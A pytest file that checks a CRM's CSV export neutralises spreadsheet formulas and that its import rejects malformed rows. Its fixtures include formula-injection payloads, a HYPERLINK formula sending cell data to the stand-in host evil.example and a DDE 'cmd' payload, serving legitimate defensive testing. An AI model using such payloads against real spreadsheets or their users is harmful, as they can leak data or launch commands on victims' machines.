"""CSV import and export hardening (issue 10 findings 8 and 14) through the real ``crm`` console
script, on both databases: exports neutralise cells a spreadsheet would run as formulas and
start with the record reference; a row shorter than the header is refused like a longer one;
an import with rejected rows exits non-zero with their count on the last line."""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING

from crm.customers import create_customer
from crm.leads import create_lead
from crm.models import Lead
from tests.conftest import Workspace
from tests.test_cli import crm

if TYPE_CHECKING:
    from tests.conftest import TestDB

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "company_name": "+1+cmd|' /C calc'!A0",
}


def test_export_neutralises_formulas_and_adds_the_ref_column(
    db: TestDB, acme: Workspace, tmp_path: Path
) -> None:
    rep = acme.actor(acme.rep)
    lead = create_lead(rep, name=FORMULAS["name"], company_name=FORMULAS["company_name"])
    lead2 = create_lead(
        rep, name="-2+3 Holdings", phone="0971234567", company_name="Plain Co",
        estimated_value=Decimal("1500.25"),
    )  # fmt: skip
    customer = create_customer(rep, name="@channel Ltd", industry="=1+1")

    out = tmp_path / "leads.csv"
    result = crm(db, "export", "leads", str(out), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    header, *rows = list(csv.reader(out.open(newline="", encoding="utf-8")))
    assert header[:3] == ["ref", "name", "email"]
    first = dict(zip(header, rows[0], strict=True))
    second = dict(zip(header, rows[1], strict=True))
    assert first["ref"] == f"L{lead.id}" and second["ref"] == f"L{lead2.id}"
    assert first["name"] == "'" + FORMULAS["name"]
    assert first["company"] == "'" + FORMULAS["company_name"]
    assert second["name"] == "'-2+3 Holdings" and second["phone"] == "'+260971234567"
    assert second["company"] == "Plain Co" and second["value"] == "1500.25"
    # no cell of the file starts with a formula character any more
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    out = tmp_path / "customers.csv"
    assert crm(db, "export", "customers", str(out), cwd=tmp_path).returncode == 0
    header, row = list(csv.reader(out.open(newline="", encoding="utf-8")))
    cells = dict(zip(header, row, strict=True))
    assert (cells["ref"], cells["name"], cells["industry"]) == (
        f"C{customer.id}",
        "'@channel Ltd",
        "'=1+1",
    )

    # importing the export into the same workspace finds every record already there
    # (the quote comes off again on import, the ref column is accepted and not imported)
    again = crm(db, "import", "customers", str(out), cwd=tmp_path)
    assert again.returncode == 0, again.stdout
    assert "0 created, 1 already present, 0 rejected" in again.stdout


def test_short_and_long_rows_are_refused_and_the_exit_status_says_so(
    db: TestDB, acme: Workspace, tmp_path: Path
) -> None:
    path = tmp_path / "leads.csv"
    path.write_text(
        "name,email,company,source\n"
        "Ann,ann@example.com,Acme,website\n"
        "Bob,bob@example.com\n"  # fewer values than columns
        "Cy,cy@example.com,Gamma,event,surplus\n"  # more
        "Dee,dee@example.com,Delta,referral\n",
        encoding="utf-8",
    )
    result = crm(db, "import", "leads", str(path), cwd=tmp_path)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "2 created, 0 already present, 2 rejected" in result.stdout
    assert "2 value(s), fewer than the header's 4 columns" in result.stdout
    assert "5 value(s), more than the header's 4 columns" in result.stdout
    table = [line for line in result.stdout.splitlines() if line.startswith("│")]
    assert [[c.strip() for c in r.strip("│").split("│")][:2] for r in table] == [
        ["3", "row"],
        ["4", "row"],
    ]
    assert result.stdout.strip().splitlines()[-1] == "2 row(s) rejected"
    assert sorted(lead.name for lead in Lead.select()) == ["Ann", "Dee"]

    clean = tmp_path / "clean.csv"
    clean.write_text("name\nEve\n", encoding="utf-8")
    ok = crm(db, "import", "leads", str(clean), cwd=tmp_path)
    assert ok.returncode == 0 and "1 created, 0 already present, 0 rejected" in ok.stdout
